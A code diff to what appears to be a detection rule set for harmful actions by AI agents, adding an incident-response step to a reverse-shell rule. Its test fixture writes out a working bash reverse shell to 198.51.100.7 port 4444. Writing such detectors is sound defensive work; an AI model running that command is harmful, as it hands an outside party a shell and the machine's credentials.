@@ -68,6 +68,9 @@ export const AGENTS_HARM: readonly Rule[] = [
     failed: "medium",
     attack: { tactic: "Execution", technique: "T1651" },
     expected: "nobody outside has a shell",
+    response: [
+      "Stop the run, and cut its machine off the network (reversible); make anew every credential that the machine could read.",
+    ],
     fires: ["a reverse shell", shell("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")],
     quiet: ["a shell of its own", shell("bash -c 'npm test'")],
   }),
